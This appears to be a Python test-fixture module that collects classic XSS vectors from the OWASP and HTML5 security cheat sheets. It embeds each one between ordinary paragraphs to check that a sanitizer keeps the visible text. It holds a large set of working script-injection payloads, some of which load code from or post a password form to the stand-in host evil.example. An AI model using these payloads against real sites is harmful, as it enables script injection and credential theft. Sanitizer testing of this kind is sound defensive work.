"""Classic XSS vectors as data: each is embedded between two plain paragraphs whose words must survive.

Sources of the list: the OWASP XSS filter evasion cheat sheet (obfuscated schemes, entity tricks,
CSS expressions, conditional comments, frames and meta refresh), the HTML5 Security Cheatsheet
(event handlers that fire without interaction, SVG/MathML, srcdoc, formaction) and the mXSS
write-ups behind DOMPurify's namespace-confusion fixes (noscript/noembed/style-in-svg nesting).
Every entry is (name, markup, words): ``words`` are visible words inside the vector that a
browser shows and the archive must keep; the surrounding paragraphs are checked for every vector.
"""
from __future__ import annotations

BEFORE = "Trustees approved the winter budget."
AFTER = "Volunteers painted the community hall."
EVIL = "https://evil.example"

# (handler, element that carries it): handlers that fire on load, on error, on focus or on a gesture.
EVENT_HANDLERS: list[tuple[str, str]] = [
    ("onerror", '<img src="/missing.png" {attr}>'), ("onload", '<img src="/a.png" {attr}>'),
    ("onclick", "<p {attr}>click words</p>"), ("ondblclick", "<span {attr}>span words</span>"),
    ("onmouseover", '<a href="/about" {attr}>hover words</a>'), ("onmouseenter", "<div {attr}>div words</div>"),
    ("onmouseout", "<em {attr}>em words</em>"), ("onmousedown", "<strong {attr}>strong words</strong>"),
    ("onpointerover", "<b {attr}>bold words</b>"), ("onpointerdown", "<i {attr}>italic words</i>"),
    ("onfocus", '<div tabindex="1" autofocus {attr}>focus words</div>'), ("onblur", "<u {attr}>under words</u>"),
    ("onfocusin", "<section {attr}>section words</section>"), ("onkeydown", "<code {attr}>code words</code>"),
    ("onkeypress", "<kbd {attr}>kbd words</kbd>"), ("oninput", "<mark {attr}>mark words</mark>"),
    ("onchange", "<small {attr}>small words</small>"), ("onsubmit", "<blockquote {attr}>quote words</blockquote>"),
    ("ontoggle", "<details open {attr}><summary>summary words</summary></details>"),
    ("onanimationstart", '<p style="animation-name:spin" {attr}>animated words</p>'),
    ("ontransitionend", '<p style="transition:color 1s" {attr}>transition words</p>'),
    ("onscroll", '<div style="overflow:auto;height:1px" {attr}>scroll words</div>'),
    ("onwheel", "<li {attr}>list words</li>"), ("oncopy", "<pre {attr}>pre words</pre>"),
    ("oncontextmenu", "<h2 {attr}>heading words</h2>"), ("ondragstart", '<span draggable="true" {attr}>drag words</span>'),
    ("onbeforeprint", "<article {attr}>article words</article>"), ("onpageshow", "<body {attr}>body words</body>"),
    ("onloadstart", '<video src="/v.mp4" {attr}></video>'), ("oncanplay", '<audio src="/a.mp3" {attr}></audio>'),
    ("onplay", '<video autoplay {attr}><source src="/v.mp4"></video>'), ("onauxclick", "<td {attr}>cell words</td>"),
]
HANDLER_FORMS: list[tuple[str, str]] = [
    ("quoted", 'HANDLER="alert(1)"'), ("unquoted", "HANDLER=alert(1)"), ("upper", 'HANDLER_UPPER="alert(1)"'),
]


def _handlers() -> list[tuple[str, str, list[str]]]:
    out = []
    for handler, element in EVENT_HANDLERS:
        for form, attr in HANDLER_FORMS:
            if form != "quoted" and handler not in ("onerror", "onclick", "onmouseover", "onload"):
                continue
            attr = attr.replace("HANDLER_UPPER", handler.upper()).replace("HANDLER", handler)
            markup = element.format(attr=attr)
            words = [w for w in (markup.split(">")[1].split("<")[0],) if w.strip()]
            out.append((f"event-{handler}-{form}", markup, words))
    return out


_JS = "javascript:alert(1)"
# href values that browsers run as javascript: (or vbscript:, or HTML documents) after their URL parsing.
SCHEME_OBFUSCATIONS: list[tuple[str, str]] = [
    ("plain", _JS),
    ("mixed-case", "JaVaScRiPt:alert(1)"),
    ("leading-space", "  javascript:alert(1)"),
    ("leading-control-entity", "&#14;  javascript:alert(1)"),
    ("leading-control-raw", "\x01javascript:alert(1)"),
    ("tab-raw", "jav\tascript:alert(1)"),
    ("tab-entity", "jav&#x09;ascript:alert(1)"),
    ("tab-named-entity", "java&Tab;script:alert(1)"),
    ("newline-entity", "jav&#x0A;ascript:alert(1)"),
    ("newline-named-entity", "java&NewLine;script:alert(1)"),
    ("cr-entity", "jav&#x0D;ascript:alert(1)"),
    ("nul-raw", "java\x00script:alert(1)"),
    ("decimal-entities", "".join(f"&#{ord(c)};" for c in _JS)),
    ("decimal-padded-no-semicolon", "".join(f"&#{ord(c):07d}" for c in _JS)),
    ("hex-entities-no-semicolon", "".join(f"&#x{ord(c):X}" for c in _JS)),
    ("colon-named-entity", "javascript&colon;alert(1)"),
    ("colon-decimal-entity", "javascript&#58;alert(1)"),
    ("comment-newline", "javascript://%0Aalert(1)"),
    ("vbscript", "vbscript:msgbox(1)"),
    ("livescript", "livescript:alert(1)"),
    ("data-html", "data:text/html,<script>alert(1)</script>"),
    ("data-html-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("data-upper", "DATA:text/html,<script>alert(1)</script>"),
    ("data-svg", "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"),
    ("data-javascript", "data:application/javascript,alert(1)"),
]


def _schemes() -> list[tuple[str, str, list[str]]]:
    out = []
    for name, url in SCHEME_OBFUSCATIONS:
        quoted = url.replace('"', "&quot;")
        out.append((f"href-{name}", f'<a href="{quoted}">minutes words</a>', ["minutes words"]))
    for name in ("plain", "mixed-case", "tab-entity", "decimal-entities", "vbscript", "data-html", "data-svg"):
        url = dict(SCHEME_OBFUSCATIONS)[name]
        out.append((f"img-src-{name}", f'<img src="{url}" alt="chart">', []))
    return out


# Other places a URL is executed or loaded from.
URL_ATTRIBUTE_VECTORS: list[tuple[str, str, list[str]]] = [
    ("img-dynsrc", f'<img dynsrc="{_JS}" src="/a.png">', []),
    ("img-lowsrc", f'<img lowsrc="{_JS}" src="/a.png">', []),
    ("img-srcset", f'<img src="/a.png" srcset="{_JS} 1x">', []),
    ("body-background", f'<body background="{_JS}">body words</body>', ["body words"]),
    ("table-background", f'<table background="{_JS}"><tr><td>table words</td></tr></table>', ["table words"]),
    ("td-background", f'<table><tr><td background="{_JS}">cell words</td></tr></table>', ["cell words"]),
    ("video-poster", f'<video poster="{_JS}" src="/v.mp4"></video>', []),
    ("audio-src", f'<audio src="{_JS}"></audio>', []),
    ("source-src", f'<video><source src="{_JS}" type="video/mp4"></video>', []),
    ("blockquote-cite", f'<blockquote cite="{_JS}">quoted words</blockquote>', ["quoted words"]),
    ("q-cite", f'<q cite="vbscript:msgbox(1)">short quote words</q>', ["short quote words"]),
    ("a-formaction", f'<a href="/ok" formaction="{_JS}">formaction words</a>', ["formaction words"]),
    ("a-ping", f'<a href="/ok" ping="{EVIL}/track">ping words</a>', ["ping words"]),
    ("a-xlink-href", f'<a xlink:href="{_JS}">xlink words</a>', ["xlink words"]),
    ("a-action", f'<a href="/ok" action="{_JS}">action words</a>', ["action words"]),
    ("button-formaction", f'<button formaction="{_JS}">button words</button>', []),
    ("input-image-src", f'<input type="image" src="{_JS}">', []),
    ("link-import", f'<link rel="import" href="{EVIL}/x.html">', []),
    ("link-stylesheet-javascript", f'<link rel="stylesheet" href="{_JS}">', []),
    ("isindex-action", f'<isindex action="{_JS}" type="image" src="/a.png">', []),
]

CSS_VECTORS: list[tuple[str, str, list[str]]] = [
    ("style-expression", '<p style="width: expression(alert(1))">styled words</p>', ["styled words"]),
    ("style-expression-comment", "<p style=\"xss:expr/*XSS*/ession(alert('XSS'))\">styled words</p>", ["styled words"]),
    ("style-expression-entity", '<p style="width:e&#x78;pression(alert(1))">styled words</p>', ["styled words"]),
    ("style-url-javascript", f'<p style="background-image: url({_JS})">styled words</p>', ["styled words"]),
    ("style-url-javascript-quoted", f'<p style="background:url(&quot;{_JS}&quot;)">styled words</p>', ["styled words"]),
    ("style-css-escapes", "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
                          "\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027"
                          "\\0058.1053\\0053\\0027\\0029'\\0029\">escaped words</div>", ["escaped words"]),
    ("style-behavior", '<p style="behavior: url(xss.htc)">styled words</p>', ["styled words"]),
    ("style-moz-binding", f'<p style="-moz-binding:url({EVIL}/xss.xml#xss)">styled words</p>', ["styled words"]),
    ("style-overlay", f'<a href="{EVIL}/" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay words</a>',
     ["overlay words"]),
    ("style-tag-import", f"<style>@import '{EVIL}/xss.css';</style>", []),
    ("style-tag-import-escaped", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>", []),
    ("style-tag-url", f'<style>p{{background:url("{_JS}")}}</style>', []),
    ("style-tag-list-image", f'<style>li {{list-style-image: url("{_JS}");}}</style><ul><li>item words</li></ul>',
     ["item words"]),
    ("style-tag-expression", "<style>*{x:expression(alert(1))}</style>", []),
    ("meta-link-stylesheet", f'<meta http-equiv="Link" content="<{EVIL}/xss.css>; REL=stylesheet">', []),
    ("xss-tag-behavior", '<xss style="behavior: url(xss.htc)">custom words</xss>', ["custom words"]),
]

SCRIPT_VECTORS: list[tuple[str, str, list[str]]] = [
    ("script", "<script>alert(1)</script>", []),
    ("script-src", f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>", []),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>", []),
    ("script-slash-attribute", f'<SCRIPT/XSS SRC="{EVIL}/xss.js"></SCRIPT>', []),
    ("script-extra-open-bracket", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', []),
    ("script-module", f"<script type=\"module\">import('{EVIL}/x.js')</script>", []),
    ("script-in-table", "<table><tr><td>cell words</td></tr><script>alert(1)</script></table>", ["cell words"]),
    ("script-split-by-script", "<scr<script>ipt>alert(1)</scr</script>ipt>", []),
    ("script-in-attribute", '<p title="</p><script>alert(1)</script>">titled words</p>', ["titled words"]),
    ("script-escaped-text", "<p>&lt;script&gt;alert(1)&lt;/script&gt; escaped words</p>", ["escaped words"]),
    ("script-in-head", "<html><head><script>alert(1)</script></head><body><p>page words</p></body></html>",
     ["page words"]),
    ("script-xml-pi", "<? echo('<scr)'; echo('ipt>alert(1)</script>'); ?>", []),
    ("script-cdata", "<![CDATA[<script>alert(1)</script>]]>", []),
    ("img-onerror-slashes", '<img/src="x"/onerror=alert(1)>', []),
    ("img-onerror-backtick", "<img src=`x` onerror=alert(1)>", []),
    ("img-onerror-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>", []),
    ("img-onerror-newline", "<img\nsrc=x\nonerror\n=\nalert(1)>", []),
    ("img-malformed-quotes", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', []),
]

SVG_MATH_VECTORS: list[tuple[str, str, list[str]]] = [
    ("svg-script", "<svg><script>alert(1)</script></svg>", []),
    ("svg-onload", "<svg onload=alert(1)>", []),
    ("svg-slash-onload", "<svg/onload=alert(1)></svg>", []),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", []),
    ("svg-set-handler", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', []),
    ("svg-a-xlink", f'<svg><a xlink:href="{_JS}"><text x="20" y="20">svg words</text></a></svg>', []),
    ("svg-script-xlink", '<svg><script xlink:href="data:,alert(1)"></script></svg>', []),
    ("svg-foreignobject-iframe", "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"
                                 "</foreignObject></svg>", []),
    ("svg-use-data", '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>', []),
    ("svg-style-img", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>", []),
    ("svg-cdata-img", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", []),
    ("svg-namespace-confusion", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', []),
    ("math-href", f'<math href="{_JS}">math words</math>', []),
    ("math-maction", f'<math><maction actiontype="statusline" xlink:href="{_JS}">math words</maction></math>', []),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", []),
    ("math-form-mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", []),
]

EMBEDDING_VECTORS: list[tuple[str, str, list[str]]] = [
    ("iframe", f'<iframe src="{EVIL}/"></iframe>', []),
    ("iframe-javascript", f'<iframe src="{_JS}"></iframe>', []),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', []),
    ("srcdoc-on-allowed-tag", '<div srcdoc="<script>alert(1)</script>">div words</div>', ["div words"]),
    ("frameset", f'<frameset><frame src="{_JS}"></frameset>', []),
    ("object-swf", f'<object data="{EVIL}/x.swf" type="application/x-shockwave-flash"><param name="allowScriptAccess" '
                   'value="always"></object>', []),
    ("object-data-html", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', []),
    ("embed-swf", f'<embed src="{EVIL}/x.swf">', []),
    ("embed-data-svg", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', []),
    ("applet", '<applet code="X.class"></applet>', []),
    ("portal", f'<portal src="{EVIL}/"></portal>', []),
    ("base-javascript", f'<base href="{_JS}//"><a href="/minutes">minutes words</a>', ["minutes words"]),
    ("base-evil", f'<base href="{EVIL}/"><a href="/minutes">minutes words</a>', ["minutes words"]),
    ("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">', []),
    ("meta-refresh-javascript", f'<meta http-equiv="refresh" content="0;url={_JS}">', []),
    ("meta-refresh-data", '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', []),
    ("meta-charset-utf7", "<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-", []),
    ("form", f'<form action="{EVIL}/steal"><input type="password" name="pw"><button>Send</button></form>', []),
    ("form-javascript-action", f'<form action="{_JS}"><input type="submit" value="Go"></form>', []),
    ("input-autofocus", "<input onfocus=alert(1) autofocus>", []),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>text</textarea>", []),
    ("select-autofocus", "<select autofocus onfocus=alert(1)><option>x</option></select>", []),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>", []),
    ("marquee-onstart", "<marquee onstart=alert(1)>marquee words</marquee>", ["marquee words"]),
    ("bgsound", f'<bgsound src="{_JS}">', []),
]

MXSS_VECTORS: list[tuple[str, str, list[str]]] = [
    ("noscript-title-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', []),
    ("noscript-text", "<noscript><p>noscript words</p><script>alert(1)</script></noscript>", ["noscript words"]),
    ("noembed-breakout", '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>', []),
    ("noframes-breakout", '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>', []),
    ("iframe-breakout", '<iframe><img title="</iframe><img src onerror=alert(1)>"></iframe>', []),
    ("title-breakout", '<title><img title="</title><img src onerror=alert(1)>"></title>', []),
    ("style-breakout", '<style><img title="</style><img src onerror=alert(1)>"></style>', []),
    ("textarea-breakout", '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>', []),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', []),
    ("plaintext-script", "<p>plain words</p><plaintext><script>alert(1)</script>", ["plain words"]),
    ("listing-escape", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", []),
    ("template-script", "<template><script>alert(1)</script></template>", []),
    ("template-img", "<template><img src=x onerror=alert(1)></template>", []),
    ("template-nested", "<template><template><svg onload=alert(1)></template></template>", []),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">', []),
    ("comment-bang", "<!--!><img src=x onerror=alert(1)>-->", []),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", []),
    ("downlevel-revealed", "<![if !IE]><script>alert(1)</script><![endif]>", []),
    ("conditional-unterminated", "<!--[if]><script>alert(1)</script -->", []),
    ("comment-dash-dash-bang", "<!-- --!><img src=x onerror=alert(1)>", []),
    ("a-in-a-title", '<a href="/ok" title="&lt;img src=x onerror=alert(1)&gt;">linked words</a>', ["linked words"]),
    ("select-style-breakout", '<select><style></select><img src=x onerror=alert(1)></style></select>', []),
    ("table-form-nesting", "<table><form><tr><td><img src=x onerror=alert(1)></td></tr></form></table>", []),
    ("p-in-button", "<button><p>button text<img src=x onerror=alert(1)></p></button>", []),
    ("isindex-prompt", '<isindex prompt="<img src=x onerror=alert(1)>">', []),
]

VECTORS: list[tuple[str, str, list[str]]] = (
    SCRIPT_VECTORS + _handlers() + _schemes() + URL_ATTRIBUTE_VECTORS + CSS_VECTORS + SVG_MATH_VECTORS
    + EMBEDDING_VECTORS + MXSS_VECTORS
)


def embed(markup: str) -> str:
    """The vector between two ordinary paragraphs, as a post or comment body would carry it."""
    return f"<p>{BEFORE}</p>{markup}<p>{AFTER}</p>"
